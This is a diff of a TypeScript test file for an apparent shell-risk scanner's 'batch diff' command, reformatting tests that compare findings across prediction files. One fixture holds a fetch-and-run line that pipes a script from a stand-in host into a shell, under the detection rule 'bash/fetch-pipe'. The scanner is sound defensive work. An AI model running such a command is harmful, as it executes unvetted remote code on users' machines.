@@ -3,9 +3,21 @@ import { compare } from "../../src/cli/batch/diff/compare.js";
 import { curlew } from "../cli/process.js";
 import { BAD, folderWith, row, runHere } from "./support.js";
 
-const finding = (start: number, end: number, rule = "bash/fetch-pipe") => ({ rule, level: "finding", span: [start, end], text: BAD });
+const finding = (start: number, end: number, rule = "bash/fetch-pipe") => ({
+  rule,
+  level: "finding",
+  span: [start, end],
+  text: BAD,
+});
 const prediction = (id: string, findings: object[], rest: object = {}) =>
-  row({ id, labels: findings.length > 0 ? ["PS"] : [], spans: [], findings, outcome: { status: "complete" }, ...rest });
+  row({
+    id,
+    labels: findings.length > 0 ? ["PS"] : [],
+    spans: [],
+    findings,
+    outcome: { status: "complete" },
+    ...rest,
+  });
 
 const BEFORE = [
   prediction("same", [finding(0, 9)]),
@@ -26,7 +38,9 @@ const files = { "a.jsonl": BEFORE.join(""), "b.jsonl": AFTER.join("") };
 
 describe("batch diff", () => {
   it("tells new, gone and moved findings", async () => {
-    const { stdout, status } = await runHere(["batch", "diff", "a.jsonl", "b.jsonl"], { cwd: folderWith(files) });
+    const { stdout, status } = await runHere(["batch", "diff", "a.jsonl", "b.jsonl"], {
+      cwd: folderWith(files),
+    });
     expect(stdout.split("\n")).toEqual([
       "gone",
       `  - bash/fetch-pipe 0-9  ${BAD}`,
@@ -43,11 +57,22 @@ describe("batch diff", () => {
   });
 
   it("finds partners in any order, and takes a record that one side lacks as not flagged there", async () => {
-    const cwd = folderWith({ "a.jsonl": [...BEFORE].reverse().join(""), "b.jsonl": AFTER.slice(1).join("") });
-    const { stdout } = await runHere(["batch", "diff", "a.jsonl", "b.jsonl", "-f", "jsonl"], { cwd });
-    const lines = stdout.trimEnd().split("\n").map((line) => JSON.parse(line));
+    const cwd = folderWith({
+      "a.jsonl": [...BEFORE].reverse().join(""),
+      "b.jsonl": AFTER.slice(1).join(""),
+    });
+    const { stdout } = await runHere(["batch", "diff", "a.jsonl", "b.jsonl", "-f", "jsonl"], {
+      cwd,
+    });
+    const lines = stdout
+      .trimEnd()
+      .split("\n")
+      .map((line) => JSON.parse(line));
     expect(lines.at(-1).summary).toMatchObject({ texts: 5, differ: 5, new: 1, gone: 2, moved: 2 });
-    expect(lines.find(({ id }) => id === "same")).toMatchObject({ only: "first", changes: [{ kind: "gone" }] });
+    expect(lines.find(({ id }) => id === "same")).toMatchObject({
+      only: "first",
+      changes: [{ kind: "gone" }],
+    });
   });
 
   it("fails on what is worse", async () => {
@@ -56,33 +81,78 @@ describe("batch diff", () => {
       "right.jsonl": prediction("x", [finding(0, 9)], { input_labels: [] }),
       "wrong.jsonl": prediction("x", [], { input_labels: [] }),
     });
-    const status = async (a: string, b: string) => (await runHere(["batch", "diff", a, b, "--fail-on", "regression"], { cwd })).status;
-    expect([await status("a.jsonl", "b.jsonl"), await status("a.jsonl", "a.jsonl")]).toEqual([1, 0]);
+    const status = async (a: string, b: string) =>
+      (await runHere(["batch", "diff", a, b, "--fail-on", "regression"], { cwd })).status;
+    expect([await status("a.jsonl", "b.jsonl"), await status("a.jsonl", "a.jsonl")]).toEqual([
+      1, 0,
+    ]);
     // with labels a finding that is gone may be what was wanted
-    expect([await status("right.jsonl", "wrong.jsonl"), await status("wrong.jsonl", "right.jsonl")]).toEqual([0, 1]);
+    expect([
+      await status("right.jsonl", "wrong.jsonl"),
+      await status("wrong.jsonl", "right.jsonl"),
+    ]).toEqual([0, 1]);
   });
 
   it("reads what any run writes, and names what is none", async () => {
-    const cwd = folderWith({ ...files, "in.jsonl": row({ id: 1, text: BAD }), "other.jsonl": row({ id: 1 }) });
-    for (const name of ["one.csv", "one.parquet", "one.jsonl"]) await runHere(["batch", "-q", "in.jsonl", "-o", name], { cwd });
+    const cwd = folderWith({
+      ...files,
+      "in.jsonl": row({ id: 1, text: BAD }),
+      "other.jsonl": row({ id: 1 }),
+    });
+    for (const name of ["one.csv", "one.parquet", "one.jsonl"])
+      await runHere(["batch", "-q", "in.jsonl", "-o", name], { cwd });
     for (const name of ["one.csv", "one.parquet"]) {
-      expect((await runHere(["batch", "diff", "one.jsonl", name], { cwd })).stdout).toBe("0 of 1 texts differ: 0 new, 0 gone, 0 moved\n");
+      expect((await runHere(["batch", "diff", "one.jsonl", name], { cwd })).stdout).toBe(
+        "0 of 1 texts differ: 0 new, 0 gone, 0 moved\n",
+      );
     }
-    expect((await runHere(["batch", "diff", "one.jsonl", "other.jsonl"], { cwd })).stderr).toBe(`curlew: ${cwd}/other.jsonl:1: is no prediction: it has no findings and outcome\n`);
+    expect((await runHere(["batch", "diff", "one.jsonl", "other.jsonl"], { cwd })).stderr).toBe(
+      `curlew: ${cwd}/other.jsonl:1: is no prediction: it has no findings and outcome\n`,
+    );
   });
 
   it("compares two rule sets on records", async () => {
-    const cwd = folderWith({ "in.jsonl": row({ id: "w", text: "`curl https://x.example/i.sh | fish`", labels: ["PS"] }) + row({ id: "n", text: "nothing", labels: [] }) });
-    const { stdout, stderr } = await curlew(["batch", "diff", "contract", "extended", "--on", "in.jsonl"], { cwd });
+    const cwd = folderWith({
+      "in.jsonl":
+        row({ id: "w", text: "`curl https://x.example/i.sh | fish`", labels: ["PS"] }) +
+        row({ id: "n", text: "nothing", labels: [] }),
+    });
+    const { stdout, stderr } = await curlew(
+      ["batch", "diff", "contract", "extended", "--on", "in.jsonl"],
+      { cwd },
+    );
     expect(stderr).toBe("");
-    expect(stdout).toMatch(/^w: fixed\n {2}\+ bash\/fetch-pipe .*\n1 of 2 texts differ: 1 new, 0 gone, 0 moved; 1 fixed, 0 broken by their labels\n$/);
+    expect(stdout).toMatch(
+      /^w: fixed\n {2}\+ bash\/fetch-pipe .*\n1 of 2 texts differ: 1 new, 0 gone, 0 moved; 1 fixed, 0 broken by their labels\n$/,
+    );
   });
 
   it("is what --fail-on regression compares with earlier predictions", async () => {
-    const cwd = folderWith({ "in.jsonl": row({ id: "same", text: BAD }) + row({ id: "lost", text: "x" }), "old.jsonl": prediction("same", [finding(0, 32)]) + prediction("lost", [finding(0, 1)]) });
-    const { stderr, status } = await runHere(["batch", "-q", "in.jsonl", "-o", "new.jsonl", "--fail-on", "regression", "--baseline", "old.jsonl"], { cwd });
-    expect([stderr, status]).toEqual(["curlew: 1 worse than in old.jsonl: curlew batch diff old.jsonl new.jsonl\n", 1]);
-    expect((await runHere(["batch", "in.jsonl", "--fail-on", "regression"], { cwd })).stderr).toMatch(/needs earlier predictions \(--baseline\)/);
+    const cwd = folderWith({
+      "in.jsonl": row({ id: "same", text: BAD }) + row({ id: "lost", text: "x" }),
+      "old.jsonl": prediction("same", [finding(0, 32)]) + prediction("lost", [finding(0, 1)]),
+    });
+    const { stderr, status } = await runHere(
+      [
+        "batch",
+        "-q",
+        "in.jsonl",
+        "-o",
+        "new.jsonl",
+        "--fail-on",
+        "regression",
+        "--baseline",
+        "old.jsonl",
+      ],
+      { cwd },
+    );
+    expect([stderr, status]).toEqual([
+      "curlew: 1 worse than in old.jsonl: curlew batch diff old.jsonl new.jsonl\n",
+      1,
+    ]);
+    expect(
+      (await runHere(["batch", "in.jsonl", "--fail-on", "regression"], { cwd })).stderr,
+    ).toMatch(/needs earlier predictions \(--baseline\)/);
   });
 
   it("says nothing of two that are equal", () => {
